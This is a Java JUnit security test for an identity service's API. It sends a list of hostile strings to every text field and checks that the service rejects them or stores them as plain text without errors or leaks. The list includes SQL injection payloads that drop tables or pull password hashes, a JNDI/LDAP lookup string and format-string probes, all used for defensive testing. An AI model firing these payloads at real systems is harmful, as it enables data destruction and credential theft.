package dev.mortise.kernel.identity;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mortise.kernel.testkit.TestKernel;
import dev.mortise.kernel.testkit.TestResponse;
import java.util.List;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import tools.jackson.databind.json.JsonMapper;

/** What comes of hostile text in every field of this room that takes text. */
@Tag("T2")
@Timeout(120)
class HostileTextTest {
    private static final List<String> TEXTS = List.of(
            "'; DROP TABLE mortise.user_account; --",
            "' OR '1'='1",
            "\"; SELECT pg_sleep(5); --",
            "$$ || (SELECT password_hash FROM mortise.user_account) || $$",
            "\\'; TRUNCATE mortise.api_key; --",
            "${jndi:ldap://192.0.2.1/x}",
            "#{1+1} %s %n {0}",
            "\u0000",
            "a\u0000b",
            "\uD800",
            "\u202Eevil",
            "x".repeat(100_000));

    private record Field(String method, String path, String json) {}

    private static List<Field> fields(String user) {
        return List.of(
                new Field("POST", "sessions", "{\"email\":%s,\"password\":\"x\"}"),
                new Field("POST", "sessions", "{\"email\":\"a@example.org\",\"password\":%s}"),
                new Field("POST", "sessions", "{\"tenant\":%s,\"email\":\"a@example.org\",\"password\":\"x\"}"),
                new Field("POST", "tokens", "{\"apiKey\":%s}"),
                new Field("POST", "tokens", "{\"email\":\"b@example.org\",\"password\":\"x\",\"code\":%s}"),
                new Field("POST", "tokens/refresh", "{\"refreshToken\":%s}"),
                new Field("POST", "tokens/revoke", "{\"refreshToken\":%s}"),
                new Field("POST", "invitations", "{\"email\":%s}"),
                new Field("POST", "invitations", "{\"email\":\"c@example.org\",\"roles\":[%s]}"),
                new Field("POST", "invitations", "{\"email\":\"c@example.org\",\"displayName\":%s,\"validSeconds\":0}"),
                new Field("POST", "invitations/accept", "{\"token\":%s,\"password\":\"x\"}"),
                new Field("POST", "invitations/again", "{\"userId\":%s}"),
                new Field("PATCH", "users/" + user, "{\"displayName\":%s}"),
                new Field("PATCH", "users/" + user, "{\"roles\":[%s]}"),
                new Field("PATCH", "users/" + user, "{\"state\":%s}"),
                new Field("POST", "roles", "{\"name\":%s,\"permissions\":[\"kernel.roles.read\"]}"),
                new Field("POST", "roles", "{\"name\":\"r\",\"permissions\":[%s]}"),
                new Field("PUT", "roles/mine", "{\"description\":%s,\"permissions\":[\"kernel.roles.read\"]}"),
                new Field("POST", "service-accounts", "{\"name\":%s}"),
                new Field("POST", "service-accounts", "{\"name\":\"s\",\"roles\":[%s]}"),
                new Field("POST", "api-keys", "{\"name\":%s,\"permissions\":[\"kernel.roles.read\"]}"),
                new Field("POST", "api-keys", "{\"name\":\"k\",\"permissions\":[%s]}"),
                new Field("POST", "api-keys", "{\"name\":\"k\",\"permissions\":[\"*\"],\"serviceAccount\":%s}"),
                new Field("POST", "api-keys", "{\"name\":\"k\",\"permissions\":[\"*\"],\"expiresAt\":%s}"));
    }

    @Test
    void hostileTextIsRefusedOrKeptAsText() {
        try (TestKernel kernel = TestKernel.start()) {
            Company company = new Company(kernel);
            String user = company.join("victim@example.org");
            company.admin("POST", "roles", "{\"name\":\"mine\",\"permissions\":[\"kernel.roles.read\"]}");

            for (Field field : fields(user)) {
                for (String text : TEXTS) {
                    String json = field.json().formatted(JsonMapper.shared().writeValueAsString(text));
                    TestResponse answer = company.admin(field.method(), field.path(), json);
                    assertThat(answer.status())
                            .as("%s %s %s: %s", field.method(), field.path(), shown(text), shown(answer.text()))
                            .isLessThan(500);
                    assertThat(answer.text()).doesNotContain("org.postgresql").doesNotContain("argon2id");
                }
            }

            assertThat(company.admin("GET", "users/" + user, "").status()).isEqualTo(200);
            assertThat(company.admin("GET", "service-accounts?limit=500", "").text())
                    .contains("'; DROP TABLE mortise.user_account; --");
        }
    }

    private static String shown(String text) {
        return text.substring(0, Math.min(text.length(), 300));
    }
}
